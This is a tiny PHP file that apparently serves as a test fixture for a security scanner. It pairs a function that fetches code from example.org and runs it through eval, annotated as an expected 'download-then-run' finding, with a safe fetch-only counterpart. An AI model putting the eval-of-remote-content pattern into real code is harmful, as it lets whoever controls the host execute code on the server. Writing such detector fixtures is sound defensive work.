<?php
function f1() {
    eval(file_get_contents('https://example.org/x'));  // expect: code/download-then-run
}

function f2() {
    $x = file_get_contents('https://example.org/x');  // ok
}
